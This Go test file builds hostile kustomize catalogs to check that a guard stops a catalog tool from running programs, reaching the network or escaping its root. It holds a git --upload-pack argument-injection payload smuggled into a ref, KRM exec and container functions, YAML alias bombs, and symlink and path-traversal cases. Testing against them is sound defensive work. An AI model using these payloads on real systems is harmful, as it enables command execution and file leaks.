package guard

import (
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"testing"
)

// miniCatalog is a small valid catalog every hostile case is added to:
// one operator, a base, a default pointer and one overlay. The hostile
// kustomization is evil, a second overlay.
var miniCatalog = map[string]string{
	"mq/operator/base/kustomization.yaml": "resources:\n  - subscription.yaml\n",
	"mq/operator/base/subscription.yaml": "apiVersion: operators.coreos.com/v1alpha1\nkind: Subscription\nmetadata:\n  name: ibm-mq\n  namespace: openshift-operators\n" +
		"spec:\n  channel: v2.0\n  installPlanApproval: Manual\n  name: ibm-mq\n  source: ibm-operator-catalog\n  sourceNamespace: openshift-marketplace\n  startingCSV: ibm-mq.v2.0.1\n",
	"mq/operator/overlays/kustomization.yaml":      "resources:\n  - ./v2.0\n",
	"mq/operator/overlays/v2.0/kustomization.yaml": "resources:\n  - ../../base\n",
}

// evil is the hostile overlay's kustomization file.
const evil = "mq/operator/overlays/evil/kustomization.yaml"

// evilDir is the hostile overlay's folder, for the files beside it.
const evilDir = "mq/operator/overlays/evil/"

// base is the start of a hostile overlay that has a Subscription.
const base = "resources:\n  - ../../base\n"

const cm = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: cm\n"

// hostileCase is a catalog that tries to make opcat run a program, reach
// the network or write outside it. Placeholders: see sandbox.expand.
type hostileCase struct {
	name  string
	files map[string]string
	// alone: the files are the whole catalog, without miniCatalog.
	alone bool
	setup func(t testing.TB, sb *sandbox, root string)
}

// exploit makes git run touch when kustomize clones with the ref as an
// option: git's --upload-pack names the program git runs.
const exploit = "file:///nonexistent//k?ref=--upload-pack%3Dtouch%20{{MARKERS}}/PWNED%3B"

func hostileCases(t testing.TB) []hostileCase {
	var cases []hostileCase
	add := func(name string, files map[string]string) {
		cases = append(cases, hostileCase{name: name, files: files})
	}
	one := func(name, kustomization string) { add(name, map[string]string{evil: kustomization}) }

	// The exploit, in every field that names a kustomization and in other
	// letter cases.
	one("exploit Bases", "Bases:\n- "+exploit+"\n")
	one("exploit bases", "bases:\n- "+exploit+"\n")
	one("exploit resources", "resources:\n- "+exploit+"\n")
	one("exploit RESOURCES", "RESOURCES:\n- "+exploit+"\n")
	one("exploit Components", base+"Components:\n- "+exploit+"\n")
	one("exploit git:: prefix", "resources:\n- git::file:///nonexistent/k?ref=--upload-pack=touch%20{{MARKERS}}/PWNED2;\n")
	one("exploit JSON kustomization", `{"Bases": ["`+exploit+`"]}`+"\n")
	one("exploit merge key", "<<: {resources: [\""+exploit+"\"]}\n")
	one("exploit long s", "reſources:\n- "+exploit+"\n") // ſ folds to s in encoding/json
	one("exploit last duplicate wins", base+"resources:\n- "+exploit+"\n")
	add("exploit kustomization.yml", map[string]string{evilDir + "kustomization.yml": "bases:\n- " + exploit + "\n"})
	add("exploit Kustomization", map[string]string{evilDir + "Kustomization": "bases:\n- " + exploit + "\n"})

	// YAML spellings kustomize's decoder reads differently from a reader
	// that looks at the text: a !!binary value, escapes in quoted keys and
	// values, a second document.
	one("binary value", "resources:\n- !!binary {{BASE64 http://{{LOOP}}/binary.yaml}}\n")
	one("binary value in Bases", "Bases:\n- !!binary {{BASE64 "+exploit+"}}\n")
	one("escaped key", "\"\\x72esources\": [\"http://{{LOOP}}/escaped-key.yaml\"]\n")
	one("escaped value", "resources:\n- \"\\x68ttp://{{LOOP}}/escaped-value.yaml\"\n")
	one("second document", base+"---\nresources:\n- http://{{LOOP}}/second-document.yaml\n")

	// Field names in other letter cases.
	for _, f := range []string{"Resources", "RESOURCES", "rEsOuRcEs", "Bases", "BASES"} {
		one("letter case "+f, f+":\n- http://{{LOOP}}/"+f+".yaml\n")
	}
	one("letter case Components", base+"Components:\n- http://{{LOOP}}/components\n")
	one("letter case Crds", base+"Crds:\n- http://{{LOOP}}/crd.yaml\n")
	one("letter case PatchesStrategicMerge", base+"PatchesStrategicMerge:\n- http://{{LOOP}}/psm.yaml\n")
	one("letter case Patches", base+"Patches:\n- path: http://{{LOOP}}/p.yaml\n")
	one("letter case ConfigMapGenerator", base+"ConfigMapGenerator:\n- name: c\n  Files:\n  - http://{{LOOP}}/f\n")
	one("letter case Transformers", base+"Transformers:\n- http://{{LOOP}}/t.yaml\n")
	one("letter case Generators", "Generators:\n- http://{{LOOP}}/g.yaml\n")

	// Every field that names a path, with an http:// and an https:// URL
	// on the recording listener.
	fields := []struct{ name, body string }{
		{"resources", "resources:\n- {{U}}/r.yaml\n"},
		{"resources folder", "resources:\n- {{U}}/folder\n"},
		{"bases", "bases:\n- {{U}}/b\n"},
		{"components", base + "components:\n- {{U}}/c\n"},
		{"crds", base + "crds:\n- {{U}}/crd.yaml\n"},
		{"configurations", base + "configurations:\n- {{U}}/conf.yaml\n"},
		{"openapi path", base + "openapi:\n  path: {{U}}/openapi.json\n"},
		{"patches path", base + "patches:\n- path: {{U}}/p.yaml\n"},
		{"patches path with target", base + "patches:\n- path: {{U}}/p.yaml\n  target:\n    kind: Subscription\n"},
		{"patchesStrategicMerge", base + "patchesStrategicMerge:\n- {{U}}/psm.yaml\n"},
		{"patchesJson6902 path", base + "patchesJson6902:\n- target:\n    group: operators.coreos.com\n    version: v1alpha1\n    kind: Subscription\n    name: ibm-mq\n  path: {{U}}/pj.yaml\n"},
		{"replacements path", base + "replacements:\n- path: {{U}}/repl.yaml\n"},
		{"configMapGenerator files", base + "configMapGenerator:\n- name: c\n  files:\n  - {{U}}/f\n"},
		{"configMapGenerator files with key", base + "configMapGenerator:\n- name: c\n  files:\n  - key={{U}}/f\n"},
		{"configMapGenerator envs", base + "configMapGenerator:\n- name: c\n  envs:\n  - {{U}}/e.env\n"},
		{"configMapGenerator env", base + "configMapGenerator:\n- name: c\n  env: {{U}}/e.env\n"},
		{"secretGenerator files", base + "secretGenerator:\n- name: s\n  files:\n  - {{U}}/f\n"},
		{"secretGenerator envs", base + "secretGenerator:\n- name: s\n  envs:\n  - {{U}}/e.env\n"},
		{"secretGenerator env", base + "secretGenerator:\n- name: s\n  env: {{U}}/e.env\n"},
		{"helmCharts repo", base + "helmCharts:\n- name: c\n  repo: {{U}}/charts\n  version: 1.0.0\n  releaseName: c\n"},
		{"helmCharts valuesFile", base + "helmCharts:\n- name: c\n  valuesFile: {{U}}/values.yaml\n"},
		{"helmCharts additionalValuesFiles", base + "helmCharts:\n- name: c\n  additionalValuesFiles:\n  - {{U}}/values.yaml\n"},
		{"helmChartInflationGenerator", base + "helmChartInflationGenerator:\n- chartName: c\n  chartRepoUrl: {{U}}/charts\n  values: {{U}}/values.yaml\n"},
		{"generators", base + "generators:\n- {{U}}/gen.yaml\n"},
		{"transformers", base + "transformers:\n- {{U}}/tr.yaml\n"},
		{"validators", base + "validators:\n- {{U}}/val.yaml\n"},
	}
	for _, f := range fields {
		for _, scheme := range []string{"http", "https"} {
			one(f.name+" "+scheme, strings.ReplaceAll(f.body, "{{U}}", scheme+"://{{LOOP}}"))
		}
	}

	// Folders whose kustomization holds a remote resource, named where a
	// kustomization folder may be named.
	remoteFolder := map[string]string{
		"remote/kustomization.yaml":       "resources:\n- http://{{LOOP}}/nested.yaml\n",
		"remote-c/kustomization.yaml":     "apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\nresources:\n- http://{{LOOP}}/nested-c.yaml\n",
		"exploit/kustomization.yaml":      "bases:\n- " + exploit + "\n",
		"exploit-caps/kustomization.yaml": "BASES:\n- " + exploit + "\n",
	}
	for _, f := range []string{"resources", "bases", "generators", "transformers", "validators"} {
		for _, target := range []string{"remote", "exploit", "exploit-caps"} {
			files := map[string]string{evil: base + f + ":\n- ../../../../" + target + "\n"}
			if f == "resources" || f == "bases" {
				files[evil] = f + ":\n- ../../../../" + target + "\n"
			}
			k := target + "/kustomization.yaml"
			files[k] = remoteFolder[k]
			add(f+" folder holding "+target, files)
		}
	}
	{
		add("components folder holding remote", map[string]string{evil: base + "components:\n- ../../../../remote-c\n",
			"remote-c/kustomization.yaml": remoteFolder["remote-c/kustomization.yaml"]})
		add("Transformers folder two hops from remote", map[string]string{evil: base + "Transformers:\n- ../../../../hop\n",
			"hop/kustomization.yaml": "resources:\n- ../remote\n", "remote/kustomization.yaml": remoteFolder["remote/kustomization.yaml"]})
	}

	// Plugin-config documents, in files and inline.
	pluginConfigs := []struct{ name, doc string }{
		{"PatchTransformer path", "apiVersion: builtin\nkind: PatchTransformer\nmetadata:\n  name: p\npath: http://{{LOOP}}/pt.yaml\ntarget:\n  kind: Subscription\n"},
		{"ReplacementTransformer path", "apiVersion: builtin\nkind: ReplacementTransformer\nmetadata:\n  name: r\nreplacements:\n- path: http://{{LOOP}}/rt.yaml\n"},
		{"PatchStrategicMergeTransformer paths", "apiVersion: builtin\nkind: PatchStrategicMergeTransformer\nmetadata:\n  name: p\npaths:\n- http://{{LOOP}}/psmt.yaml\n"},
		{"PatchJson6902Transformer path", "apiVersion: builtin\nkind: PatchJson6902Transformer\nmetadata:\n  name: p\ntarget:\n  kind: Subscription\n  name: ibm-mq\npath: http://{{LOOP}}/pjt.yaml\n"},
		{"ConfigMapGenerator files", "apiVersion: builtin\nkind: ConfigMapGenerator\nmetadata:\n  name: c\nfiles:\n- http://{{LOOP}}/cmg\nenvs:\n- http://{{LOOP}}/cmg.env\n"},
		{"SecretGenerator env", "apiVersion: builtin\nkind: SecretGenerator\nmetadata:\n  name: s\nenv: http://{{LOOP}}/sg.env\n"},
		{"HelmChartInflationGenerator", "apiVersion: builtin\nkind: HelmChartInflationGenerator\nmetadata:\n  name: h\nname: c\nrepo: http://{{LOOP}}/charts\nvaluesFile: http://{{LOOP}}/values.yaml\n"},
	}
	for _, pc := range pluginConfigs {
		field := "transformers"
		if strings.Contains(pc.name, "Generator") {
			field = "generators"
		}
		add(pc.name+" in a file", map[string]string{evil: base + field + ":\n- config.yaml\n", evilDir + "config.yaml": pc.doc})
		add(pc.name+" inline", map[string]string{evil: base + field + ":\n- |-\n" + indent(pc.doc, "  ")})
		add(pc.name+" in a second document", map[string]string{evil: base + field + ":\n- config.yaml\n",
			evilDir + "config.yaml": "apiVersion: builtin\nkind: LabelTransformer\nmetadata:\n  name: l\nlabels:\n  a: b\nfieldSpecs:\n- path: metadata/labels\n  create: true\n---\n" + pc.doc})
		add(pc.name+" in a folder", map[string]string{evil: base + field + ":\n- ../../../../conf\n",
			"conf/kustomization.yaml": "resources:\n- config.yaml\n", "conf/config.yaml": pc.doc})
	}

	// Git URLs in their forms.
	gitURLs := []string{
		"github.com/org/repo//x?ref=v1",
		"github.com/org/repo/x?ref=v1",
		"git::https://github.com/org/repo//x?ref=v1",
		"git::http://{{LOOP}}/org/repo.git//x?ref=v1",
		"https://github.com/org/repo.git//x?ref=v1",
		"http://{{LOOP}}/org/repo.git//x?ref=v1",
		"https://{{LOOP}}/org/repo//x?ref=v1&timeout=2s&submodules=false",
		"ssh://git@github.com/org/repo//x?ref=v1",
		"git@github.com:org/repo//x?ref=v1",
		"git@{{LOOP}}:org/repo//x?ref=v1",
		"file:///nonexistent/repo//x?ref=v1",
		"file://{{MARKERS}}/repo//x",
		"gh:org/repo//x?ref=v1",
		"https://gitlab.com/org/repo//x?ref=v1",
		"https://dev.azure.com/org/project/_git/repo//x?ref=v1",
	}
	for _, u := range gitURLs {
		one("git URL "+u, "resources:\n- "+u+"\n")
	}
	one("git URL in components", base+"components:\n- https://github.com/org/repo//c?ref=v1\n")

	// KRM functions and legacy plugins.
	fn := func(annotation, spec string) string {
		return "apiVersion: example.com/v1\nkind: Evil\nmetadata:\n  name: evil\n  annotations:\n    " + annotation + ": |\n" + indent(spec, "      ")
	}
	functions := []struct{ name, doc string }{
		{"exec function", fn("config.kubernetes.io/function", "exec:\n  path: {{FN}}\n")},
		{"exec function in the catalog", fn("config.kubernetes.io/function", "exec:\n  path: ./fn.sh\n")},
		{"exec function, legacy annotation", fn("config.k8s.io/function", "exec:\n  path: {{FN}}\n")},
		{"container function", fn("config.kubernetes.io/function", "container:\n  image: evil.example.com/fn:latest\n  network: true\n")},
		{"container function, legacy annotation", fn("config.k8s.io/function", "container:\n  image: evil.example.com/fn:latest\n")},
		{"legacy exec plugin", "apiVersion: example.com/v1\nkind: Evil\nmetadata:\n  name: evil\n"},
		{"legacy plugin ChartInflator", "apiVersion: someteam.example.com/v1\nkind: ChartInflator\nmetadata:\n  name: evil\n"},
	}
	for _, f := range functions {
		for _, field := range []string{"generators", "transformers", "validators"} {
			add(f.name+" in "+field, map[string]string{
				evil: base + field + ":\n- fn.yaml\n", evilDir + "fn.yaml": f.doc,
				evilDir + "fn.sh+x": "#!/bin/sh\nprintf 'catalog script\\n' >> {{MARKERS}}/calls\n",
			})
		}
		add(f.name+" inline", map[string]string{evil: base + "transformers:\n- |-\n" + indent(f.doc, "  ")})
		add(f.name+" in a folder", map[string]string{evil: base + "transformers:\n- ../../../../fn\n",
			"fn/kustomization.yaml": "resources:\n- fn.yaml\n", "fn/fn.yaml": f.doc,
			"fn/fn.sh+x": "#!/bin/sh\nprintf 'catalog script\\n' >> {{MARKERS}}/calls\n"})
	}

	// Helm with a local chart: kustomize would run helm.
	add("helm local chart", map[string]string{
		evil:                                  base + "helmGlobals:\n  chartHome: charts\nhelmCharts:\n- name: c\n  releaseName: c\n",
		evilDir + "charts/c/Chart.yaml":       "apiVersion: v2\nname: c\nversion: 1.0.0\n",
		evilDir + "charts/c/templates/c.yaml": cm,
	})
	add("helm config home", map[string]string{evil: base + "helmGlobals:\n  configHome: {{MARKERS}}/helm\nhelmCharts:\n- name: c\n  repo: oci://evil.example.com/charts\n"})

	cases = append(cases, lintHostileCases()...)
	cases = append(cases, seedCorpusCase(t))
	return cases
}

func indent(s, prefix string) string {
	lines := strings.SplitAfter(strings.TrimSuffix(s, "\n"), "\n")
	for i, l := range lines {
		lines[i] = prefix + l
	}
	return strings.Join(lines, "") + "\n"
}

// lintHostileCases are the hostile catalogs of catalog/lint's tests,
// broken and malicious files (bombs, links, pipes, cycles, plugins), run
// under the guard as well.
func lintHostileCases() []hostileCase {
	deep := strings.Repeat("[", 100000) + strings.Repeat("]", 100000)
	bomb := "a: &a [x, x, x, x, x, x, x, x, x]\n"
	for i, prev := 0, "a"; i < 12; i++ {
		name := string(rune('b' + i))
		bomb += name + ": &" + name + " [*" + prev + ", *" + prev + ", *" + prev + ", *" + prev + ", *" + prev + ", *" + prev + ", *" + prev + ", *" + prev + ", *" + prev + "]\n"
		prev = name
	}
	c := func(name string, files map[string]string) hostileCase {
		return hostileCase{name: "lint hostile " + name, files: files}
	}
	return []hostileCase{
		c("alias bomb", map[string]string{"a/kustomization.yaml": "resources:\n  - bomb.yaml\n", "a/bomb.yaml": bomb}),
		c("alias bomb in a kustomization", map[string]string{"a/kustomization.yaml": bomb + "resources:\n  - cm.yaml\n", "a/cm.yaml": cm}),
		c("alias bomb in a patch", map[string]string{"a/kustomization.yaml": "resources:\n  - cm.yaml\npatches:\n  - path: bomb.yaml\n", "a/cm.yaml": cm, "a/bomb.yaml": cm + bomb}),
		c("nesting 100000 deep", map[string]string{"a/kustomization.yaml": "resources:\n  - deep.yaml\n", "a/deep.yaml": "x: " + deep + "\n"}),
		c("file over the size limit", map[string]string{"a/kustomization.yaml": "resources:\n  - big.yaml\n", "a/big.yaml": cm + "data:\n  x: \"" + strings.Repeat("x", 11<<20) + "\"\n"}),
		c("binary file", map[string]string{"a/kustomization.yaml": "resources:\n  - bin.yaml\n", "a/bin.yaml": "\x7fELF\x00\x01\x02"}),
		c("tabs in indentation", map[string]string{"a/kustomization.yaml": "resources:\n\t- cm.yaml\n", "a/cm.yaml": cm}),
		c("duplicate keys", map[string]string{"a/kustomization.yaml": "resources:\n  - cm.yaml\nresources:\n  - cm.yaml\n", "a/cm.yaml": cm}),
		c("empty kustomization", map[string]string{"a/kustomization.yaml": ""}),
		c("kustomization.yaml that is a folder", map[string]string{"a/kustomization.yaml/x.txt": "x"}),
		{name: "lint hostile symbolic link leaving the root", files: map[string]string{"a/kustomization.yaml": "resources:\n  - leak.yaml\n"},
			setup: func(t testing.TB, sb *sandbox, root string) {
				outside := filepath.Join(sb.dir, "secret.yaml")
				if err := os.WriteFile(outside, []byte(cm), 0o644); err != nil {
					t.Fatal(err)
				}
				if err := os.Symlink(outside, filepath.Join(root, "a", "leak.yaml")); err != nil {
					t.Skip("no symbolic links here:", err)
				}
			}},
		{name: "lint hostile symbolic link loop", files: map[string]string{"a/kustomization.yaml": "resources:\n  - cm.yaml\n", "a/cm.yaml": cm},
			setup: func(t testing.TB, sb *sandbox, root string) {
				if err := os.Symlink("loop-b", filepath.Join(root, "a", "loop-a")); err != nil {
					t.Skip("no symbolic links here:", err)
				}
				if err := os.Symlink("loop-a", filepath.Join(root, "a", "loop-b")); err != nil {
					t.Fatal(err)
				}
			}},
		{name: "lint hostile symbolic link to a pipe", files: map[string]string{"a/kustomization.yaml": "resources:\n  - pipe.yaml\n", "a/cm.yaml": cm},
			setup: func(t testing.TB, sb *sandbox, root string) {
				fifo := filepath.Join(root, "a", "pipe")
				if err := syscall.Mkfifo(fifo, 0o644); err != nil {
					t.Skip("no named pipes here:", err)
				}
				if err := os.Symlink("pipe", filepath.Join(root, "a", "pipe.yaml")); err != nil {
					t.Skip("no symbolic links here:", err)
				}
			}},
		c("path leaving the root", map[string]string{"a/kustomization.yaml": "resources:\n  - ../../../etc\n"}),
		c("cycle", map[string]string{"a/kustomization.yaml": "resources:\n  - ../b\n", "b/kustomization.yaml": "resources:\n  - ../a\n"}),
		c("exec KRM function", map[string]string{
			"a/kustomization.yaml": "resources:\n  - cm.yaml\ntransformers:\n  - fn.yaml\n", "a/cm.yaml": cm,
			"a/fn.yaml": "apiVersion: example.com/v1\nkind: Evil\nmetadata:\n  name: evil\n  annotations:\n    config.kubernetes.io/function: |\n      exec:\n        path: /bin/sh\n"}),
		c("container KRM function", map[string]string{
			"a/kustomization.yaml": "resources:\n  - cm.yaml\ngenerators:\n  - fn.yaml\n", "a/cm.yaml": cm,
			"a/fn.yaml": "apiVersion: example.com/v1\nkind: Evil\nmetadata:\n  name: evil\n  annotations:\n    config.kubernetes.io/function: |\n      container:\n        image: evil:latest\n"}),
		c("legacy plugin", map[string]string{
			"a/kustomization.yaml": "resources:\n  - cm.yaml\ntransformers:\n  - plugin.yaml\n", "a/cm.yaml": cm,
			"a/plugin.yaml": "apiVersion: someteam.example.com/v1\nkind: ChartInflator\nmetadata:\n  name: evil\n"}),
		c("helm chart", map[string]string{"a/kustomization.yaml": "helmCharts:\n  - name: evil\n    repo: https://example.com/charts\n    version: 1.0.0\n"}),
		c("remote resource", map[string]string{"a/kustomization.yaml": "resources:\n  - https://example.com/x.yaml\n"}),
	}
}

// seedCorpusCase puts every input of the repository's stored fuzz corpora
// for kustomizations (testdata/fuzz of the packages that parse them) in a
// folder of its own, as a kustomization.
func seedCorpusCase(t testing.TB) hostileCase {
	files := map[string]string{}
	dirs := []string{
		"../../../../lib/kustomize/testdata/fuzz/FuzzParseKustomization",
		"../../../../lib/kustomize/testdata/fuzz/FuzzParseYAML",
		"../../../../catalog/lint/testdata/fuzz/FuzzValidate",
		"testdata/fuzz/FuzzGuard",
	}
	var names []string
	for _, d := range dirs {
		entries, _ := os.ReadDir(d)
		for _, e := range entries {
			data, err := os.ReadFile(filepath.Join(d, e.Name()))
			if err != nil {
				t.Fatal(err)
			}
			input, ok := fuzzInput(data)
			if !ok {
				continue
			}
			name := filepath.Base(d) + "-" + e.Name()
			names = append(names, name)
			if strings.Contains(input, "\n=== ") {
				for file, content := range treeFromFuzz(input) {
					files["seeds/"+name+"/"+file] = content
				}
				continue
			}
			files["seeds/"+name+"/kustomization.yaml"] = input
		}
	}
	sort.Strings(names)
	return hostileCase{name: "stored fuzz inputs", files: files}
}

// fuzzInput reads the single string or []byte value of a file in Go's
// fuzz corpus format.
func fuzzInput(data []byte) (string, bool) {
	lines := strings.Split(strings.TrimSpace(string(data)), "\n")
	if len(lines) != 2 || lines[0] != "go test fuzz v1" {
		return "", false
	}
	v := lines[1]
	for _, prefix := range []string{"[]byte(", "string("} {
		if inner, ok := strings.CutPrefix(v, prefix); ok {
			s, err := strconv.Unquote(strings.TrimSuffix(inner, ")"))
			return s, err == nil
		}
	}
	return "", false
}
